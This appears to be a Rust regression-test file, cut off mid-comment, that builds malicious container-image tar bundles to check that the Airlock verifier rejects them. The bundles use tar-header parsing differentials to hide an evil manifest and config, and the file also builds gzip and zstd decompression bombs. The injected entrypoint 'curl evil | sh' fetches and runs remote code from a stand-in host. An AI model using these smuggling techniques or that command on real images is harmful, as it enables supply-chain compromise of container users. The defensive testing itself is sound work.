//! Attack bundles from the security review, rebuilt in memory at test time
//! from the shared corpus (`../shared/corpus/good`) and hand-made tar headers.
//!
//! Each case is a bundle on which Airlock and the Go importers (`docker load`,
//! containerd's import: Go's `archive/tar` and `encoding/json`) once saw
//! different things, or on which Airlock spent unbounded time or memory. Each
//! test states what the attack is and why the expected verdict is right. The
//! `tar` crate's `Header`/`Builder` write what they can express; headers it
//! will not write (type NUL, ustar version other than `00`, GNU time fields
//! that are not numbers, STAR trailers) are written byte by byte with a
//! correct checksum. Nothing binary is checked in.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use verify_core::{FindingKind, Limits, Options, Report, Sha256, Verdict, Verifier};

/// The tag the attacker's image would be loaded under.
const EVIL_TAG: &str = "docker.io/library/alpine:latest";
const BLOCK: usize = 512;
/// A fixed modification time for entries written here (2023-11-14).
const MTIME: u64 = 1_700_000_000;

// ---------------------------------------------------------------------------
// Running the verifier
// ---------------------------------------------------------------------------

fn corpus() -> PathBuf {
    std::env::var_os("AIRLOCK_CORPUS").map_or_else(
        || Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus"),
        PathBuf::from,
    )
}

fn good(name: &str) -> Vec<u8> {
    std::fs::read(corpus().join("good").join(name))
        .expect("the shared corpus (../shared/corpus/good) must be present")
}

fn verify_with(bytes: &[u8], options: &Options, chunk: usize) -> Report {
    let mut v = Verifier::new(options.clone());
    for piece in bytes.chunks(chunk.max(1)) {
        v.update(piece);
    }
    v.finish()
}

fn verify(bytes: &[u8]) -> Report {
    verify_with(bytes, &Options::default(), bytes.len())
}

fn kind_names(r: &Report) -> Vec<&'static str> {
    r.findings.iter().map(|f| f.kind.as_str()).collect()
}

fn count(r: &Report, kind: FindingKind) -> usize {
    r.findings.iter().filter(|f| f.kind == kind).count()
}

fn assert_fails_with(r: &Report, kind: FindingKind, case: &str) {
    assert_eq!(
        r.verdict,
        Verdict::Fail,
        "{case}: must fail; findings {:?}",
        kind_names(r)
    );
    assert!(
        r.has(kind),
        "{case}: expected a {kind} finding, got {:?}",
        kind_names(r)
    );
}

fn assert_ok(r: &Report, case: &str) {
    assert_eq!(
        r.verdict,
        Verdict::Ok,
        "{case}: must verify; findings {:#?}",
        r.findings
    );
    assert!(!r.images.is_empty(), "{case}: no images");
}

/// Whether any image in the report carries `tag`.
fn shows_tag(r: &Report, tag: &str) -> bool {
    r.images
        .iter()
        .any(|i| i.repo_tags.iter().any(|t| t == tag))
}

fn assert_hidden_content_not_believed(r: &Report, case: &str) {
    assert!(
        !shows_tag(r, EVIL_TAG),
        "{case}: the smuggled manifest.json must not be believed: {:#?}",
        r.images
    );
}

// ---------------------------------------------------------------------------
// Writing tars
// ---------------------------------------------------------------------------

fn sha256_hex(data: &[u8]) -> String {
    Sha256::of(data).to_hex()
}

fn digest_of(data: &[u8]) -> String {
    format!("sha256:{}", sha256_hex(data))
}

fn to_json(v: &Value) -> Vec<u8> {
    serde_json::to_vec(v).expect("serializable JSON")
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(data).expect("in-memory gzip");
    enc.finish().expect("in-memory gzip")
}

/// A ustar header for a regular file of `size` bytes (path set on append).
fn file_header(size: u64) -> tar::Header {
    let mut h = tar::Header::new_ustar();
    h.set_size(size);
    h.set_mode(0o644);
    h.set_mtime(MTIME);
    h.set_cksum();
    h
}

fn append_file(b: &mut tar::Builder<Vec<u8>>, path: &str, data: &[u8]) {
    let mut h = file_header(data.len() as u64);
    b.append_data(&mut h, path, data).expect("in-memory tar");
}

/// A tar with the given regular files, end-of-archive blocks included.
fn tar_of(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, data) in files {
        append_file(&mut b, path, data);
    }
    b.into_inner().expect("in-memory tar")
}

/// PAX extended header records (`"%d %s=%s\n"`, the length counting itself).
fn pax_body(records: &[(&str, &[u8])]) -> Vec<u8> {
    let mut body = Vec::new();
    for (key, value) in records {
        let rest = key.len() + value.len() + 3; // ' ', '=', '\n'
        let mut n = rest + 1;
        while n.to_string().len() + rest != n {
            n += 1;
        }
        body.extend_from_slice(format!("{n} {key}=").as_bytes());
        body.extend_from_slice(value);
        body.push(b'\n');
    }
    body
}

/// A PAX header (`x`, or `g` when `global`) for the next entry.
fn append_pax(b: &mut tar::Builder<Vec<u8>>, global: bool, records: &[(&str, &[u8])]) {
    let body = pax_body(records);
    let mut h = tar::Header::new_ustar();
    h.set_entry_type(if global {
        tar::EntryType::XGlobalHeader
    } else {
        tar::EntryType::XHeader
    });
    h.set_path("PaxHeaders/x").expect("short path");
    h.set_size(body.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    b.append(&h, body.as_slice()).expect("in-memory tar");
}

/// A GNU long name (`L`) entry naming the next entry.
fn append_gnu_long_name(b: &mut tar::Builder<Vec<u8>>, name: &[u8]) {
    let mut data = name.to_vec();
    data.push(0);
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::GNULongName);
    h.as_old_mut().name[..13].copy_from_slice(b"././@LongLink");
    h.set_size(data.len() as u64);
    h.set_mode(0o644);
    h.set_cksum();
    b.append(&h, data.as_slice()).expect("in-memory tar");
}

/// A header block written byte by byte, for what `tar::Header` will not write.
struct RawHeader([u8; BLOCK]);

impl RawHeader {
    /// A ustar header (`ustar\0`, version `00`) for an entry of `size` bytes,
    /// laid out as the review's `tarcraft.py` wrote it.
    fn ustar(name: &[u8], size: u64, typeflag: u8) -> Self {
        assert!(name.len() <= 100, "the name field holds 100 bytes");
        let mut b = [0u8; BLOCK];
        b[..name.len()].copy_from_slice(name);
        b[100..108].copy_from_slice(b"0000644\0");
        b[108..116].copy_from_slice(b"0000000\0");
        b[116..124].copy_from_slice(b"0000000\0");
        b[124..136].copy_from_slice(format!("{size:011o}\0").as_bytes());
        b[136..148].copy_from_slice(b"14540000000\0");
        b[156] = typeflag;
        b[257..263].copy_from_slice(b"ustar\0");
        b[263..265].copy_from_slice(b"00");
        Self(b)
    }

    /// The same with the old GNU magic (`ustar ` + ` \0`).
    fn gnu(name: &[u8], size: u64, typeflag: u8) -> Self {
        Self::ustar(name, size, typeflag).set(257, b"ustar  \0")
    }

    /// Overwrites bytes at `at`.
    fn set(mut self, at: usize, bytes: &[u8]) -> Self {
        self.0[at..at + bytes.len()].copy_from_slice(bytes);
        self
    }

    /// The block with its checksum (`%06o\0 `, the field summed as spaces).
    fn finish(mut self) -> [u8; BLOCK] {
        self.0[148..156].fill(b' ');
        let sum: u32 = self.0.iter().map(|&b| u32::from(b)).sum();
        self.0[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        self.0
    }
}

/// Appends a raw header and its data (padded to the block size).
fn append_raw(b: &mut tar::Builder<Vec<u8>>, header: RawHeader, data: &[u8]) {
    let block = header.finish();
    b.append(tar::Header::from_byte_slice(&block), data)
        .expect("in-memory tar");
}

/// The archive without its end-of-archive blocks, so entries can be added.
fn strip_eoa(tar: &[u8]) -> Vec<u8> {
    let mut end = 0;
    let mut archive = tar::Archive::new(tar);
    for entry in archive.entries().expect("corpus tar lists") {
        let entry = entry.expect("corpus entry");
        end = entry.raw_file_position() + entry.size().div_ceil(BLOCK as u64) * BLOCK as u64;
    }
    tar[..usize::try_from(end).expect("fits in memory")].to_vec()
}

/// A builder that appends to `base` (a whole tar): the new entries come
/// after the original ones, before a fresh end-of-archive marker.
fn extend(base: &[u8]) -> tar::Builder<Vec<u8>> {
    tar::Builder::new(strip_eoa(base))
}

/// One entry of a tar, kept whole so the archive can be rewritten.
struct Member {
    header: tar::Header,
    path: String,
    data: Vec<u8>,
}

/// A bundle taken apart into its entries, to be edited and written again.
struct Bundle {
    members: Vec<Member>,
}

impl Bundle {
    fn open(tar: &[u8]) -> Self {
        let mut archive = tar::Archive::new(tar);
        let members = archive
            .entries()
            .expect("corpus tar lists")
            .map(|entry| {
                let mut entry = entry.expect("corpus entry");
                let path = String::from_utf8_lossy(&entry.path_bytes()).into_owned();
                let header = entry.header().clone();
                let mut data = Vec::new();
                entry.read_to_end(&mut data).expect("corpus entry data");
                Member { header, path, data }
            })
            .collect();
        Self { members }
    }

    fn data(&self, path: &str) -> &[u8] {
        &self
            .members
            .iter()
            .find(|m| m.path == path)
            .unwrap_or_else(|| panic!("{path} in the bundle"))
            .data
    }

    fn json(&self, path: &str) -> Value {
        serde_json::from_slice(self.data(path)).unwrap_or_else(|e| panic!("{path}: {e}"))
    }

    /// The JSON blob a `sha256:` digest names.
    fn blob_json(&self, digest: &Value) -> Value {
        self.json(&blob_path(digest))
    }

    /// Replaces a file's content in place, or appends a new file.
    fn put(&mut self, path: &str, data: Vec<u8>) {
        if let Some(m) = self.members.iter_mut().find(|m| m.path == path) {
            m.header.set_size(data.len() as u64);
            m.header.set_cksum();
            m.data = data;
            return;
        }
        let mut header = file_header(data.len() as u64);
        header.set_path(path).expect("short path");
        header.set_cksum();
        self.members.push(Member {
            header,
            path: path.to_owned(),
            data,
        });
    }

    /// Stores a blob under its digest; returns the digest and size.
    fn put_blob(&mut self, data: Vec<u8>) -> (String, u64) {
        let digest = digest_of(&data);
        let size = data.len() as u64;
        self.put(&format!("blobs/sha256/{}", sha256_hex(&data)), data);
        (digest, size)
    }

    fn remove(&mut self, path: &str) {
        let before = self.members.len();
        self.members.retain(|m| m.path != path);
        assert_eq!(before, self.members.len() + 1, "{path} removed");
    }

    fn push_symlink(&mut self, path: &str, target: &str) {
        let mut header = tar::Header::new_ustar();
        header.set_entry_type(tar::EntryType::Symlink);
        header.set_path(path).expect("short path");
        header.set_link_name(target).expect("short link");
        header.set_size(0);
        header.set_mode(0o777);
        header.set_mtime(MTIME);
        header.set_cksum();
        self.members.push(Member {
            header,
            path: path.to_owned(),
            data: Vec::new(),
        });
    }

    fn tar(&self) -> Vec<u8> {
        let mut b = tar::Builder::new(Vec::new());
        for m in &self.members {
            b.append(&m.header, m.data.as_slice())
                .expect("in-memory tar");
        }
        b.into_inner().expect("in-memory tar")
    }
}

fn blob_path(digest: &Value) -> String {
    let digest = digest.as_str().expect("digest is a string");
    let hex = digest.strip_prefix("sha256:").expect("sha256 digest");
    format!("blobs/sha256/{hex}")
}

/// Points a descriptor at new content.
fn retarget(desc: &mut Value, (digest, size): (String, u64)) {
    desc["digest"] = json!(digest);
    desc["size"] = json!(size);
}

/// From `docker-save-legacy.tar`: a config like the micro image's (same
/// diff_ids, so its layers verify) but with the attacker's entrypoint, and a
/// `manifest.json` that loads it as `alpine:latest`.
struct EvilDocker {
    config: Vec<u8>,
    manifest: Vec<u8>,
}

fn evil_docker_payload(base: &[u8]) -> EvilDocker {
    let bundle = Bundle::open(base);
    let manifest = bundle.json("manifest.json");
    let micro = manifest
        .as_array()
        .and_then(|entries| {
            entries
                .iter()
                .find(|e| e["RepoTags"].to_string().contains("micro"))
        })
        .expect("the micro image in docker-save-legacy.tar")
        .clone();
    let mut config = bundle.json(micro["Config"].as_str().expect("Config is a path"));
    config["config"]["Entrypoint"] = json!(["/bin/sh", "-c", "curl evil | sh"]);
    config["config"]["Env"] = json!(["EVIL=1"]);
    EvilDocker {
        config: to_json(&config),
        manifest: to_json(&json!([{
            "Config": "evil.json",
            "RepoTags": [EVIL_TAG],
            "Layers": micro["Layers"],
        }])),
    }
}

// ---------------------------------------------------------------------------
// The cases (builders are shared with the chunking check)
// ---------------------------------------------------------------------------

/// A: a type-NUL entry named `x/` whose "data" is two more tar entries.
fn case_a() -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let hidden = {
        let mut b = tar::Builder::new(Vec::new());
        append_file(&mut b, "evil.json", &evil.config);
        append_file(&mut b, "manifest.json", &evil.manifest);
        b.get_ref().clone()
    };
    let mut b = extend(&base);
    append_raw(
        &mut b,
        RawHeader::ustar(b"x/", hidden.len() as u64, 0),
        &hidden,
    );
    b.into_inner().expect("in-memory tar")
}

/// A, with the trailing slash coming from a PAX path: Go decides on the
/// final name, so this is the same directory-with-data.
fn case_a_pax() -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let hidden = {
        let mut b = tar::Builder::new(Vec::new());
        append_file(&mut b, "evil.json", &evil.config);
        append_file(&mut b, "manifest.json", &evil.manifest);
        b.get_ref().clone()
    };
    let mut b = extend(&base);
    append_pax(&mut b, false, &[("path", b"x/")]);
    append_raw(
        &mut b,
        RawHeader::ustar(b"x", hidden.len() as u64, 0),
        &hidden,
    );
    b.into_inner().expect("in-memory tar")
}

/// B: a PAX header with `path=` (empty) before an entry named `manifest.json`.
fn case_b() -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let mut b = extend(&base);
    append_file(&mut b, "evil.json", &evil.config);
    append_pax(&mut b, false, &[("path", b"")]);
    append_file(&mut b, "manifest.json", &evil.manifest);
    b.into_inner().expect("in-memory tar")
}

/// C: a GNU long name `manifest.json`, then a PAX `path=decoy.json`, then
/// the entry (ustar name `whatever`) holding the evil manifest.
fn case_c() -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let mut b = extend(&base);
    append_file(&mut b, "evil.json", &evil.config);
    append_gnu_long_name(&mut b, b"manifest.json");
    append_pax(&mut b, false, &[("path", b"decoy.json")]);
    append_file(&mut b, "whatever", &evil.manifest);
    b.into_inner().expect("in-memory tar")
}

/// containerd-export.tar's `app` config with the attacker's entrypoint, and
/// its blob name (the digest of the original).
fn evil_containerd_config(base: &[u8]) -> (String, Vec<u8>) {
    let bundle = Bundle::open(base);
    let manifest = bundle.json("manifest.json");
    let config_path = manifest[0]["Config"]
        .as_str()
        .expect("Config is a path")
        .to_owned();
    let name = config_path
        .strip_prefix("blobs/sha256/")
        .expect("OCI blob path")
        .to_owned();
    let mut config = bundle.json(&config_path);
    config["config"]["Entrypoint"] = json!(["/bin/sh", "-c", "curl evil | sh"]);
    (name, to_json(&config))
}

/// D1: the evil config stored as `<digest>` with `blobs/sha256` in the
/// ustar prefix field, under magic `ustar\0` and the given version.
fn case_d1(version: &[u8; 2]) -> Vec<u8> {
    let base = good("containerd-export.tar");
    let (name, evil) = evil_containerd_config(&base);
    let mut b = extend(&base);
    let header = RawHeader::ustar(name.as_bytes(), evil.len() as u64, b'0')
        .set(263, version)
        .set(345, b"blobs/sha256");
    append_raw(&mut b, header, &evil);
    b.into_inner().expect("in-memory tar")
}

/// D2: the same under a GNU header, `blobs/sha256` filling the atime field.
fn case_d2() -> Vec<u8> {
    let base = good("containerd-export.tar");
    let (name, evil) = evil_containerd_config(&base);
    let mut b = extend(&base);
    let header = RawHeader::gnu(name.as_bytes(), evil.len() as u64, b'0').set(345, b"blobs/sha256");
    append_raw(&mut b, header, &evil);
    b.into_inner().expect("in-memory tar")
}

/// E: manifest.json whose micro entry also has `config` and `repotags`.
fn case_e_both_cases() -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let mut bundle = Bundle::open(&base);
    let text = String::from_utf8(bundle.data("manifest.json").to_vec()).expect("UTF-8");
    let needle = r#""RepoTags":["localhost/airlock/micro:1.0"]"#;
    assert_eq!(text.matches(needle).count(), 1, "micro entry in {text}");
    let text = text.replace(
        needle,
        &format!(r#"{needle},"config":"evil.json","repotags":["{EVIL_TAG}"]"#),
    );
    bundle.put("manifest.json", text.into_bytes());
    bundle.put("evil.json", evil.config);
    bundle.tar()
}

/// E, second form: an entry whose layers are given as `layers`.
fn case_e_lowercase_layers() -> Vec<u8> {
    let base = good("docker-save-legacy.tar");
    let mut bundle = Bundle::open(&base);
    let text = String::from_utf8(bundle.data("manifest.json").to_vec()).expect("UTF-8");
    assert!(text.contains(r#""Layers":"#), "{text}");
    let text = text.replacen(r#""Layers":"#, r#""layers":"#, 1);
    bundle.put("manifest.json", text.into_bytes());
    bundle.tar()
}

/// podman-oci-archive.tar's index.json, its one manifest and its config.
struct OciImage {
    bundle: Bundle,
    index: Value,
    manifest: Value,
    config: Value,
}

fn podman_oci() -> OciImage {
    let bundle = Bundle::open(&good("podman-oci-archive.tar"));
    let index = bundle.json("index.json");
    let manifest = bundle.blob_json(&index["manifests"][0]["digest"]);
    let config = bundle.blob_json(&manifest["config"]["digest"]);
    OciImage {
        bundle,
        index,
        manifest,
        config,
    }
}

impl OciImage {
    /// Writes config, manifest and index.json back, each pointing at the
    /// next; the replaced manifest and config blobs are dropped.
    fn commit(mut self) -> Vec<u8> {
        let old_manifest = blob_path(&self.index["manifests"][0]["digest"]);
        let old_config = blob_path(&self.manifest["config"]["digest"]);
        let config = self.bundle.put_blob(to_json(&self.config));
        retarget(&mut self.manifest["config"], config);
        let manifest = self.bundle.put_blob(to_json(&self.manifest));
        retarget(&mut self.index["manifests"][0], manifest);
        self.bundle.put("index.json", to_json(&self.index));
        let new_manifest = blob_path(&self.index["manifests"][0]["digest"]);
        let new_config = blob_path(&self.manifest["config"]["digest"]);
        for (old, new) in [(old_manifest, new_manifest), (old_config, new_config)] {
            if old != new {
                self.bundle.remove(&old);
            }
        }
        self.bundle.tar()
    }
}

/// F: every top-level index.json entry marked as a BuildKit attestation and
/// named `alpine:latest` for containerd.
fn case_f(break_diff_id: bool) -> Vec<u8> {
    let mut image = podman_oci();
    for desc in image.index["manifests"]
        .as_array_mut()
        .expect("manifests list")
    {
        desc["annotations"]["vnd.docker.reference.type"] = json!("attestation-manifest");
        desc["annotations"]["io.containerd.image.name"] = json!(EVIL_TAG);
    }
    if break_diff_id {
        image.config["rootfs"]["diff_ids"][0] = json!(digest_of(b"not the layer"));
    }
    image.commit()
}

/// N: the micro image's second layer digest A is a symlink to another blob B
/// whose bytes the config's diff_id describes.
fn case_n() -> Vec<u8> {
    let mut image = podman_oci();
    let raw = tar_of(&[("etc/evil", b"evil\n")]);
    let gz = gzip(&raw);
    let a = blob_path(&image.manifest["layers"][1]["digest"]);
    image.manifest["layers"][1]["size"] = json!(gz.len());
    image.config["rootfs"]["diff_ids"][1] = json!(digest_of(&raw));
    image.bundle.remove(&a);
    let (b, _) = image.bundle.put_blob(gz);
    let b_hex = b.trim_start_matches("sha256:").to_owned();
    image.bundle.push_symlink(&a, &b_hex);
    image.commit()
}

/// O: a good bundle, then `zeros` bytes of zeros, all in one gzip stream.
fn case_o(zeros: usize) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(&good("podman-oci-archive.tar"))
        .expect("in-memory gzip");
    let chunk = vec![0u8; 1 << 20];
    let mut left = zeros;
    while left > 0 {
        let n = left.min(chunk.len());
        enc.write_all(&chunk[..n]).expect("in-memory gzip");
        left -= n;
    }
    enc.finish().expect("in-memory gzip")
}

/// Limits under which a few MiB of zeros are already a bomb.
fn tight_ratio() -> Options {
    Options {
        limits: Limits {
            ratio_floor_bytes: 1 << 20,
            max_expansion_ratio: 10,
            ..Limits::default()
        },
        ..Options::default()
    }
}

/// RLE blocks in the bomb: 70 000 x 128 KiB is 8.5 GiB of output from
/// 280 KB of input, so a decoder that buffers a whole input chunk's output
/// would abort the test.
const RLE_BLOCKS: usize = 70_000;
const RLE_BLOCK_BYTES: u32 = 128 << 10;

/// A zstd frame of `blocks` RLE blocks, each 4 bytes claiming 128 KiB of zeros.
fn zstd_rle_bomb(blocks: usize) -> Vec<u8> {
    let mut frame = vec![0x28, 0xb5, 0x2f, 0xfd];
    // Frame header descriptor: no content size, not single-segment, no
    // checksum, no dictionary; then the window descriptor: 2^(10+7) = 128 KiB.
    frame.extend_from_slice(&[0x00, 7 << 3]);
    for i in 0..blocks {
        let last = u32::from(i + 1 == blocks);
        let header = last | (1 << 1) | (RLE_BLOCK_BYTES << 3); // type 1: RLE
        frame.extend_from_slice(&header.to_le_bytes()[..3]);
        frame.push(0);
    }
    frame
}

/// Q, second form: the bomb as the micro image's second layer.
fn case_q_layer() -> Vec<u8> {
    let mut image = podman_oci();
    let old = blob_path(&image.manifest["layers"][1]["digest"]);
    image.bundle.remove(&old);
    let layer = image.bundle.put_blob(zstd_rle_bomb(RLE_BLOCKS));
    let desc = &mut image.manifest["layers"][1];
    desc["mediaType"] = json!("application/vnd.oci.image.layer.v1.tar+zstd");
    retarget(desc, layer);
    image.commit()
}

/// K: a docker-archive bundle (`<id>/layer.tar`, `<config>.json`,
/// `manifest.json`) as `legit_configs.py` builds it.
fn docker_archive(config: &Value, layers: &[Vec<u8>]) -> Vec<u8> {
    let config = to_json(config);
    let config_name = format!("{}.json", sha256_hex(&config));
    let layer_names: Vec<String> = layers
        .iter()
        .map(|l| format!("{}/layer.tar", sha256_hex(l)))
        .collect();
    let manifest = to_json(&json!([{
        "Config": config_name,
        "RepoTags": ["example.com/app:1"],
        "Layers": layer_names,
    }]));
    let mut files: Vec<(&str, &[u8])> = layer_names
        .iter()
        .map(String::as_str)
        .zip(layers.iter().map(Vec::as_slice))
        .collect();
    files.push((&config_name, &config));
    files.push(("manifest.json", &manifest));
    tar_of(&files)
}

fn hello_layer() -> Vec<u8> {
    tar_of(&[("hello.txt", b"hi\n")])
}

/// The config shape Docker (classic builder, 20.10) writes, nulls included.
fn classic_config(layer: &[u8]) -> Value {
    json!({
        "architecture": "amd64", "os": "linux", "created": "2023-11-14T22:13:20.000000000Z",
        "docker_version": "20.10.24",
        "config": {
            "Hostname": "", "Domainname": "", "User": "", "AttachStdin": false, "Tty": false,
            "ExposedPorts": {"80/tcp": {}}, "Env": ["PATH=/bin"], "Cmd": ["/bin/sh"],
            "Healthcheck": {"Test": ["CMD", "true"], "Interval": 30_000_000_000_u64},
            "ArgsEscaped": true, "Image": format!("sha256:{}", "0".repeat(64)),
            "Volumes": {"/data": {}}, "WorkingDir": "", "Entrypoint": null,
            "OnBuild": null, "Labels": null,
        },
        "container_config": {
            "Cmd": ["/bin/sh", "-c", "#(nop) ", "CMD [\"/bin/sh\"]"],
            "Volumes": null, "OnBuild": null, "Labels": {},
        },
        "history": [
            {"created": "2023-11-14T22:13:20Z", "created_by": "/bin/sh -c #(nop) ADD file:x in / "},
            {"created": "2023-11-14T22:13:20Z", "created_by": "/bin/sh -c #(nop)  CMD [\"/bin/sh\"]",
             "empty_layer": true},
        ],
        "rootfs": {"type": "layers", "diff_ids": [digest_of(layer)]},
    })
}

fn case_k1() -> Vec<u8> {
    let layer = hello_layer();
    docker_archive(&classic_config(&layer), &[layer])
}

/// M: containerd-export.tar reshaped as a 2-platform image index, with
/// manifest.json listing only the first platform (as containerd's exporter
/// writes it).
fn case_m() -> Vec<u8> {
    let mut bundle = Bundle::open(&good("containerd-export.tar"));
    let index = bundle.json("index.json");
    let manifest_json = bundle.json("manifest.json");
    let platforms = [
        json!({"architecture": "amd64", "os": "linux"}),
        json!({"architecture": "arm64", "os": "linux"}),
    ];
    let children: Vec<Value> = index["manifests"]
        .as_array()
        .expect("manifests list")
        .iter()
        .zip(platforms)
        .map(|(d, platform)| {
            json!({
                "mediaType": d["mediaType"], "digest": d["digest"], "size": d["size"],
                "platform": platform,
            })
        })
        .collect();
    let (digest, size) = bundle.put_blob(to_json(&json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.index.v1+json",
        "manifests": children,
    })));
    bundle.put(
        "index.json",
        to_json(&json!({"schemaVersion": 2, "manifests": [{
            "mediaType": "application/vnd.oci.image.index.v1+json",
            "digest": digest, "size": size,
            "annotations": {
                "io.containerd.image.name": "localhost/airlock/app:1.0",
                "org.opencontainers.image.ref.name": "1.0",
            },
        }]})),
    );
    bundle.put("manifest.json", to_json(&json!([manifest_json[0]])));
    bundle.tar()
}

// ---------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------

/// A: a pre-POSIX regular-file entry (type byte NUL) whose name ends in `/`.
/// Go's `archive/tar` turns it into a directory and skips no data, so the
/// 'data' Airlock used to hash as one file is read by docker as two more
/// entries: an evil config and a second `manifest.json` that wins on
/// extraction. A directory with data is ambiguous between readers, so the
/// bundle must fail with `tar-header-invalid`, and the hidden manifest must
/// not turn into an image in the report. The same holds when the slash
/// comes from a PAX path, since Go looks at the final name.
#[test]
fn a_type_nul_directory_with_data_hides_entries() {
    for (case, bytes) in [("A", case_a()), ("A via PAX path", case_a_pax())] {
        let r = verify(&bytes);
        assert_fails_with(&r, FindingKind::TarHeaderInvalid, case);
        assert_hidden_content_not_believed(&r, case);
    }
}

/// B: a PAX header with an empty `path=` record. POSIX and Go say an empty
/// value deletes the record, so the ustar name (`manifest.json`) applies and
/// docker loads the second, evil `manifest.json`. Airlock used to take the
/// empty path and hash the entry as a nameless file. Reading it as Go does
/// makes it a second `manifest.json`: `duplicate-entry`, a failing verdict,
/// and the evil tag nowhere in the report.
#[test]
fn b_empty_pax_path_keeps_the_ustar_name() {
    let r = verify(&case_b());
    assert_fails_with(&r, FindingKind::DuplicateEntry, "B");
    assert_hidden_content_not_believed(&r, "B");
}

/// B2 (found while writing these tests): a GNU long name (`L`) entry whose
/// name is empty. Go's reader applies a long name only when it is not empty
/// (`if gnuLongName != ""`), so the ustar name `manifest.json` stays and
/// docker loads the evil manifest that follows. Airlock takes the empty name,
/// files the entry under `""` and reports an unreferenced blob: verdict ok.
/// It must fail instead (a second `manifest.json`, or an invalid header).
#[test]
fn b2_empty_gnu_long_name_keeps_the_ustar_name() {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let mut b = extend(&base);
    append_file(&mut b, "evil.json", &evil.config);
    append_gnu_long_name(&mut b, b"");
    append_file(&mut b, "manifest.json", &evil.manifest);
    let r = verify(&b.into_inner().expect("in-memory tar"));
    assert_eq!(r.verdict, Verdict::Fail, "B2: {:?}", kind_names(&r));
    assert_hidden_content_not_believed(&r, "B2");
}

/// C: a GNU long name and a PAX path both name one entry. Go lets the GNU
/// long name win whatever the order; other readers let the later header
/// win. An entry whose name depends on the reader is `tar-header-invalid`;
/// followed the Go way it is also a second `manifest.json`.
#[test]
fn c_gnu_long_name_and_pax_path_together() {
    let r = verify(&case_c());
    assert_fails_with(&r, FindingKind::TarHeaderInvalid, "C");
    assert!(r.has(FindingKind::DuplicateEntry), "{:?}", kind_names(&r));
    assert_hidden_content_not_believed(&r, "C");
}

/// C2 (found while writing these tests): a GNU long name, or a PAX `path`,
/// followed by a *global* PAX header (`g`) and then the entry. Go returns
/// the global header to its caller as an entry of its own, and the long
/// name or PAX path pending for the next entry is dropped with it: docker
/// sees the ustar name `manifest.json` (evil). Airlock keeps the pending
/// name across the `g` header and files the evil manifest as `junk/decoy`,
/// an unreferenced blob: verdict ok. It must fail.
#[test]
fn c2_pending_name_does_not_survive_a_global_header() {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    for gnu in [true, false] {
        let mut b = extend(&base);
        append_file(&mut b, "evil.json", &evil.config);
        if gnu {
            append_gnu_long_name(&mut b, b"junk/decoy");
        } else {
            append_pax(&mut b, false, &[("path", b"junk/decoy")]);
        }
        append_pax(&mut b, true, &[("comment", b"hi")]);
        append_file(&mut b, "manifest.json", &evil.manifest);
        let r = verify(&b.into_inner().expect("in-memory tar"));
        let case = if gnu { "C2 (GNU)" } else { "C2 (PAX)" };
        assert_eq!(r.verdict, Verdict::Fail, "{case}: {:?}", kind_names(&r));
        assert_hidden_content_not_believed(&r, case);
    }
}

/// D1: magic `ustar\0` with a version other than `00` and a name prefix.
/// Go applies the prefix for any version and reads `blobs/sha256/<digest>`
/// (an evil copy of the app config, last wins); the `tar` crate applies it
/// only for `00` and Airlock used to see a harmless top-level file. Readers
/// disagree on the name: `tar-header-invalid`.
#[test]
fn d1_ustar_prefix_with_a_nonstandard_version() {
    for version in [b"xx", b"\0\0"] {
        let r = verify(&case_d1(version));
        let case = format!("D1 version {version:?}");
        assert_fails_with(&r, FindingKind::TarHeaderInvalid, &case);
    }
}

/// D2: an old-GNU header whose atime field holds text (`blobs/sha256`). Go
/// cannot parse the time, assumes a pre-Go-1.8 writer and reads the field
/// as a ustar prefix, so it sees `blobs/sha256/<digest>`; the `tar` crate
/// reads GNU headers without a prefix. Readers disagree on the name:
/// `tar-header-invalid`.
#[test]
fn d2_gnu_header_with_text_in_the_time_fields() {
    let r = verify(&case_d2());
    assert_fails_with(&r, FindingKind::TarHeaderInvalid, "D2");
}

/// D3 (found while writing these tests): a ustar header (`ustar\0`, `00`)
/// with the STAR trailer `tar\0` in its last four bytes. Go then reads the
/// STAR layout: a 131-byte prefix followed by atime and ctime (which must
/// parse as octal), where the `tar` crate reads a 155-byte prefix. With a
/// prefix of `./././…/.` (131 bytes, no NUL) followed by 24 octal zeros, Go
/// names the entry `./././…/./manifest.json` (cleaned: `manifest.json`, the
/// evil one, last wins), while Airlock sees
/// `.000000000000000000000000/manifest.json`, an unreferenced blob: ok.
/// Readers disagree on the name, so it must be `tar-header-invalid`.
#[test]
fn d3_star_trailer_shortens_the_prefix_for_go() {
    let base = good("docker-save-legacy.tar");
    let evil = evil_docker_payload(&base);
    let mut prefix = b"./".repeat(66);
    prefix.truncate(131);
    prefix.extend_from_slice(&[b'0'; 24]);
    let mut b = extend(&base);
    append_file(&mut b, "evil.json", &evil.config);
    let header = RawHeader::ustar(b"manifest.json", evil.manifest.len() as u64, b'0')
        .set(345, &prefix)
        .set(508, b"tar\0");
    append_raw(&mut b, header, &evil.manifest);
    let r = verify(&b.into_inner().expect("in-memory tar"));
    assert_fails_with(&r, FindingKind::TarHeaderInvalid, "D3");
}

/// D4 (found while writing these tests): an old-GNU header whose atime is
/// `0 0`. Airlock counts a field made of octal digits, spaces and NULs as
